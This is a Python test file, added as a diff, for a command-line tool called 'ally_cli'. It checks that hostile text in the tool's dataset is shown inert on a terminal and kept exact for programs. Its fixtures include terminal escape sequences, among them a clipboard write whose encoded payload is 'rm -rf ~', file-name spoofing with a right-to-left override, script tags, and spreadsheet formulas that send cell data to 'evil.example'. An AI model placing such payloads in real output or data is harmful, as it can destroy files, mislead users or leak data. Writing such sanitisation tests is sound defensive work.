@@ -1,0 +1,415 @@
+"""Data that means harm or is merely odd: a terminal shows it inert, a program reads it exactly."""
+
+import csv
+import io
+import json
+import re
+import subprocess
+import sys
+import unicodedata
+from collections.abc import Iterable, Iterator, Sequence
+from concurrent.futures import ThreadPoolExecutor
+from itertools import product
+from pathlib import Path
+from xml.etree import ElementTree
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+from msgspec import Struct
+from program import Result, ally, ally_in_terminal, environment
+from rich.cells import cell_len
+from sample import Json, encode, sample
+
+from ally_cli.output import FORMATS
+from ally_cli.output.markdown import render as markdown
+from ally_cli.output.stream import Style
+from ally_cli.query import Query
+from ally_cli.reports.report import Column, Report
+from ally_cli.text import visible
+
+HOSTILE = {
+    "markup of Rich": "[/] [bold]x[/bold] [link=http://x]y[/link] :smile: \\[",
+    "colour": "\x1b[31mred\x1b[0m \x1b[2J\x1b[H \x1bc",
+    "link": "\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\",
+    "clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
+    "title": "\x1b]0;owned\x07",
+    "C1 controls": "\x9b31mred \x9d0;owned\x9c \x85 \x8d \x90",
+    "other controls": "\x00 \x08\x08 \x0b \x0c \x7f",
+    "direction": "\u202egpj.exe\u202c \u2066a\u2069 \u200f \u061c",
+    "lines": "a\tb\nc\r\nd\re\u2028f\u2029g",
+    "hidden": "a\u200bb \ufeffc \u2060 \xad \U000e0041\U000e0042",
+    "joined": "می\u200cخواهم 👩\u200d🚀",
+    "combining": "\u0301e\u0301\u0302\u0303 Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A",
+    "wide": "朝鲜民主主义人民共和国 한국어 😀🇰🇵",
+    "long": "w" * 300 + " " + "國" * 150,
+    "spreadsheet": '=HYPERLINK("http://evil.example?"&A1,"click")',
+    "table": "a|b \\| `c|d` | --- |",
+    "Markdown": "# h *e* _u_ ~~s~~ `c` <b>i</b> [t](javascript:x) ![i](u) &lt; &#60; &amp;copy;",
+    "HTML": '<script>alert("1")</script> ]]> --> &amp; <!ENTITY x "y"> ${x} {{x}} %s %n',
+}
+EVERYTHING = " ".join(HOSTILE.values())
+COMMANDS = [
+    ["list"],
+    ["filter"],
+    ["show", "freedonia", "sylvania"],
+    ["compare", "freedonia", "ile-dor"],
+    ["matrix"],
+    ["timeline"],
+    ["sources"],
+    ["sources", "--weak"],
+    ["terms"],
+    ["validate"],
+    ["diff", "SAMPLE"],
+    ["cite"],
+]
+_color = re.compile(r"\x1b\[[0-9;]*m")
+
+
+def poisoned(text: str) -> Json:
+    """Return the sample with *text* at the end of every text that may hold anything."""
+    raw = sample()
+    types = {name: f"{name}{text}" for name in raw["support_types"]}
+    raw["support_types"] = {
+        types[name]: meaning + text for name, meaning in raw["support_types"].items()
+    }
+    for country in (raw["subject"], *raw["allies"]):
+        for field in ("name", "official_name"):
+            country[field] += text
+        country["aliases"] = [alias + text for alias in country["aliases"]]
+    for one in raw["allies"]:
+        for field in ("region", "subregion", "capital", "ties_note", "summary"):
+            one[field] = (one[field] or "") + text
+        for statement in one["statements"]:
+            statement["types"] = [types[name] for name in statement["types"]]
+            for field in ("text", "note", "attributed_to"):
+                statement[field] = (statement[field] or "") + text
+    for source in raw["sources"]:
+        for field in ("publisher", "title", "author", "url", "via"):
+            source[field] = (source[field] or "") + text
+    return raw
+
+
+RAW = poisoned(EVERYTHING)
+POISONED = encode(RAW)
+SOURCES = {source["id"]: source for source in RAW["sources"]}
+
+
+@pytest.fixture(scope="module")
+def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    folder = tmp_path_factory.mktemp("data")
+    (folder / "poisoned.json").write_bytes(POISONED)
+    (folder / "sample.json").write_bytes(encode(sample()))
+    return folder
+
+
+def call(folder: Path, command: Iterable[str], *more: str) -> list[str]:
+    """Return the arguments that run *command* on what is poisoned."""
+    words = [str(folder / "sample.json") if word == "SAMPLE" else word for word in command]
+    return [*words, "--data", str(folder / "poisoned.json"), *more]
+
+
+def obeyed(text: str) -> set[str]:
+    """Return the characters of *text* that a terminal may obey, apart from the end of a line."""
+    return {
+        char
+        for char in text
+        if unicodedata.category(char) in ("Cc", "Cf", "Zl", "Zp", "Cs")
+        and char not in "\n\u200c\u200d"
+    }
+
+
+def in_terminals(
+    folder: Path, commands: Sequence[Sequence[str]], widths: Sequence[int], *more: str
+) -> Iterator[tuple[Sequence[str], int, Result]]:
+    """Yield each of *commands* as a terminal of each of *widths* shows it."""
+
+    def shown(pair: tuple[Sequence[str], int]) -> tuple[Sequence[str], int, Result]:
+        command, width = pair
+        return *pair, ally_in_terminal(*call(folder, command, *more), columns=width)
+
+    with ThreadPoolExecutor(2) as pool:
+        yield from pool.map(shown, product(commands, widths))
+
+
+def test_what_a_terminal_shows_is_inert_and_fits_it(folder: Path) -> None:
+    for command, width, done in in_terminals(folder, COMMANDS, [40, 60, 120], "--quiet"):
+        text = _color.sub("", done.out)
+
+        assert done.code == 0, command
+        assert obeyed(text) == set(), command
+        assert max(map(cell_len, text.splitlines())) <= width, (command, width)
+
+
+def test_every_format_is_inert_on_a_terminal(folder: Path) -> None:
+    formats = [["filter", "-f", name] for name in FORMATS]
+    formats += [["cite", "-f", name] for name in ("bibtex", "csl")]
+    formats += [["schema", "matrix"]]
+    for command, _, done in in_terminals(folder, formats, [80]):
+        layout = {"\t"} if "tsv" in command else {"\r"} if "csv" in command else set()
+
+        assert done.code == 0, command
+        assert obeyed(_color.sub("", done.out)) == layout, command
+
+
+@pytest.mark.parametrize("format", ["table", "md", "svg"])
+def test_what_is_for_people_is_inert_in_a_pipe_as_well(format: str, folder: Path) -> None:
+    with ThreadPoolExecutor(2) as pool:
+        calls = [call(folder, command, "-f", format) for command in COMMANDS]
+        for done in pool.map(lambda words: ally(*words), calls):
+            assert done.code == 0
+            assert obeyed(done.out + done.err) == set()
+
+
+def test_notes_and_errors_are_inert(folder: Path) -> None:
+    subject = RAW["subject"]["name"]
+    broken = encode(RAW | {"as_of": EVERYTHING, EVERYTHING: 1})
+
+    runs = [
+        ally("list", "--data", "-", stdin=broken),
+        ally("validate", "-", stdin=broken),
+        ally("validate", "-", "-f", "md", stdin=broken),
+        ally(*call(folder, ["show", subject.replace("\0", "")])),
+        ally(*call(folder, ["show", subject.replace("\0", ""), "--json"])),
+        ally(*call(folder, ["list", "-s", "\x1b[31m\u202e"])),
+    ]
+
+    assert [done.code for done in runs] == [1, 1, 1, 3, 3, 2]
+    assert [obeyed(done.out + done.err) for done in runs] == [set()] * 6
+    assert [done.err.count("\n") for done in runs] == [1, 0, 0, 1, 1, 1]
+
+
+def test_an_id_holds_nothing_hostile() -> None:
+    raw = sample()
+    raw["sources"][0]["id"] = "\x1b[31m"
+
+    done = ally("validate", "-", stdin=encode(raw))
+
+    assert done.code == 1
+    assert "'\\x1b[31m' is not an id" in done.out
+
+
+def statement_fields(one: Json, statement: Json) -> Json:
+    """Return what the program answers about *statement*, which is about *one*."""
+    cited = {
+        field: [SOURCES[source] for source in statement[field]]
+        for field in ("sources", "checked_against")
+    }
+    return {**statement, "ally": one["id"], "ally_name": one["name"], **cited}
+
+
+ITEMS = {
+    statement["id"]: statement_fields(one, statement)
+    for one in RAW["allies"]
+    for statement in one["statements"]
+}
+
+
+@pytest.mark.parametrize("format", ["json", "jsonl"])
+@pytest.mark.parametrize("encoding", ["utf-8", "ascii", "cp1252"])
+def test_what_a_program_reads_as_json_is_exact(format: str, encoding: str, folder: Path) -> None:
+    env = {"PYTHONIOENCODING": encoding}
+
+    done = ally(*call(folder, ["filter", "--verdict", "any", "-f", format]), env=env)
+
+    lines = [json.loads(line) for line in done.out.split("\n")[:-1]]
+    items = lines[0]["items"] if format == "json" else lines
+    assert {item["id"]: item for item in items} == ITEMS
+
+
+def test_what_a_terminal_shows_as_json_is_exact_as_well(folder: Path) -> None:
+    done = ally_in_terminal(
+        *call(folder, ["filter", "--verdict", "any", "--json", "-q"]), columns=80
+    )
+
+    assert {item["id"]: item for item in json.loads(done.out)["items"]} == ITEMS
+
+
+TEXTS = {"id": "id", "text": "text", "note": "note", "ally_name": "ally_name"}
+
+
+def raw_bytes(*arguments: str) -> str:
+    """Return what the program writes, with the ends of lines as they are."""
+    return ally(*arguments).out
+
+
+def test_what_a_program_reads_as_csv_is_exact(folder: Path) -> None:
+    text = raw_bytes(
+        *call(folder, ["filter", "--verdict", "any", "-f", "csv", "-F", ",".join(TEXTS)])
+    )
+
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+
+    assert rows == [{name: ITEMS[row["id"]][name] for name in TEXTS} for row in rows]
+    assert len(rows) == len(ITEMS)
+
+
+def test_what_a_program_reads_as_tsv_is_exact(folder: Path) -> None:
+    text = raw_bytes(
+        *call(folder, ["filter", "--verdict", "any", "-f", "tsv", "-F", ",".join(TEXTS)])
+    )
+    escapes = {r"\t": "\t", r"\n": "\n", r"\r": "\r", r"\\": "\\"}
+
+    rows = [
+        [re.sub(r"\\[tnr\\]", lambda match: escapes[match[0]], cell) for cell in line.split("\t")]
+        for line in text.split("\n")[1:-1]
+    ]
+
+    assert rows == [[ITEMS[row[0]][name] for name in TEXTS] for row in rows]
+    assert len(rows) == len(ITEMS)
+
+
+@pytest.mark.parametrize(
+    "formula",
+    ['=HYPERLINK("http://evil.example","x")', "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"],
+)
+@pytest.mark.parametrize("format", ["csv", "tsv"])
+def test_a_formula_for_a_spreadsheet_is_a_text_like_any_other(formula: str, format: str) -> None:
+    raw = sample()
+    raw["allies"][0]["capital"] = formula
+    wanted = {"csv": formula, "tsv": formula.replace("\t", "\\t").replace("\r", "\\r")}[format]
+    if format == "csv" and set(formula) & set('",\r'):
+        wanted = '"' + wanted.replace('"', '""') + '"'
+
+    done = ally(
+        *("list", "-n1", "-F", "capital", "-f", format, "--no-header", "-q", "--data", "-"),
+        stdin=encode(raw),
+    )
+
+    assert done == (0, wanted + ("\r\n" if format == "csv" else "\n"), "")
+
+
+class Cell(Struct, frozen=True):
+    text: str
+
+
+def cells(text: str) -> list[str]:
+    """Return the text of the cells that Markdown, read by an independent reader, has for *text*."""
+    report = Report("x", "X", None, Query(), Cell, [Cell(text)], [Column("text", "Text")])
+    page = "".join(markdown(report, Style(None, color=False, encoding="utf-8", header=True)))
+    inline = [t for t in MarkdownIt().enable("table").parse(page) if t.type == "inline"]
+    children = [child for token in inline for child in token.children or ()]
+    assert {child.type for child in children} <= {"text", "text_special"}, page
+    return ["".join(child.content for child in token.children or ()) for token in inline]
+
+
+@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
+def test_what_is_hostile_is_plain_text_in_markdown(text: str) -> None:
+    assert cells(text) == ["Text", visible(text)]
+
+
+@given(st.text(st.characters(exclude_categories=["Cs"])))
+@example("&amp; \\& &#x3c; `|` \\")
+def test_whatever_the_text_it_is_plain_text_in_markdown(text: str) -> None:
+    shown = visible(text)
+
+    assert [cell.strip() for cell in cells(text)] == ["Text", shown.strip()]
+
+
+def test_a_picture_of_what_is_hostile_is_well_formed_and_only_draws(folder: Path) -> None:
+    done = ally(*call(folder, ["show", "freedonia", "-f", "svg"]))
+
+    root = ElementTree.fromstring(done.out)
+    tags = {element.tag.rpartition("}")[2] for element in root.iter()}
+    assert tags <= {"svg", "title", "style", "defs", "clipPath", "rect", "g", "text"}
+    assert "<script>" in "".join(root.itertext())
+
+
+@pytest.mark.parametrize("encoding", ["ascii", "cp1252", "shift_jis", "utf-8"])
+def test_columns_keep_in_line_whatever_letters_an_encoding_lacks(encoding: str) -> None:
+    raw = sample()
+    raw["allies"][0]["name"] = "Фридония’s"
+    raw["allies"][2]["name"] = "中国"
+
+    done = subprocess.run(
+        [sys.executable, "-m", "ally_cli", "list", "--data", "-", "-F", "name,standing,types"],
+        input=encode(raw),
+        capture_output=True,
+        env=environment({"PYTHONIOENCODING": encoding, "PYTHONUTF8": "0"}),
+        check=True,
+    )
+
+    head, _, *rows = done.stdout.decode(encoding).splitlines()
+    words = ["Standing", "closest", "partner", "former"]
+    begin = {
+        cell_len(line[: line.index(word)]) for line, word in zip([head, *rows], words, strict=True)
+    }
+    assert len(begin) == 1, done.stdout
+
+
+@pytest.mark.parametrize(
+    ("arguments", "code", "message"),
+    [
+        (["list", "--search", "\udcff"], 2, r"'\xff' is not text in UTF-8"),
+        (["list", "-s", "a\udcffb"], 2, r"no support type 'a\xffb'"),
+        (["show", "\udcff"], 3, r"no ally '\xff'"),
+        (["\udcff"], 2, r"no command '\xff'"),
+        (["list", "--\udcff"], 2, r"no option '--\xff'"),
+        (["validate", "/nowhere/\udcff"], 1, r"/nowhere/\xff: No such file or directory"),
+        (["list", "--data", "/nowhere/\udcff"], 1, r"/nowhere/\xff: No such file or directory"),
+    ],
+)
+def test_an_argument_that_is_no_text_is_an_error_like_any_other(
+    arguments: list[str], code: int, message: str
+) -> None:
+    plain = ally(*arguments)
+    as_json = ally(*arguments, "--json")
+
+    assert (plain.code, plain.out) == (as_json.code, as_json.out) == (code, "")
+    assert plain.err.startswith(f"ally: {message}")
+    assert json.loads(as_json.err)["error"]["message"] == message
+
+
+def test_a_file_may_have_a_name_that_is_no_text(tmp_path: Path) -> None:
+    file = tmp_path / "\udcff.json"
+    file.write_bytes(encode(sample()))
+
+    done = ally("list", "--json", "-F", "id", "--data", str(file))
+    checked = ally("validate", str(file))
+
+    assert json.loads(done.out)["count"] == 3
+    assert checked.out.startswith(f"{tmp_path}/\\xff.json is sound")
+
+
+def test_an_error_in_json_is_json_whatever_letters_an_encoding_lacks() -> None:
+    done = ally("show", "Фридония", "--json", env={"PYTHONIOENCODING": "ascii"})
+
+    assert json.loads(done.err)["error"]["message"] == "no ally 'Фридония'"
+
+
+def test_a_schema_is_json_whatever_letters_an_encoding_lacks() -> None:
+    raw = sample()
+    raw["support_types"]["medical"] = "Лекарства."
+
+    done = ally(
+        *("schema", "matrix", "--data", "-"),
+        stdin=encode(raw),
+        env={"PYTHONIOENCODING": "ascii", "PYTHONUTF8": "0"},
+    )
+
+    fields = json.loads(done.out)["$defs"]["MatrixItem"]["properties"]
+    assert fields["medical"]["description"] == "Лекарства."
+
+
+def test_a_file_cut_short_within_a_letter_breaks_off_like_any_other() -> None:
+    whole = encode(sample())
+    cut = whole[: whole.index("Î".encode()) + 1]
+
+    done = ally("list", "--data", "-", stdin=cut)
+
+    assert done == (
+        1,
+        "",
+        "ally: standard input:1: it breaks off (the file may have been cut short)\n",
+    )
+
+
+@pytest.mark.parametrize("search", ["île-d’or", "ILE-D'OR", "ile‐dʼor"])
+def test_apostrophes_and_hyphens_are_found_however_they_are_typed(search: str) -> None:
+    done = ally(
+        *("filter", "--search", search, "-F", "id", "-f", "csv", "--no-header", "--data", "-"),
+        stdin=encode(sample()),
+    )
+
+    assert done.out == "ile-dor-rifles\r\n"
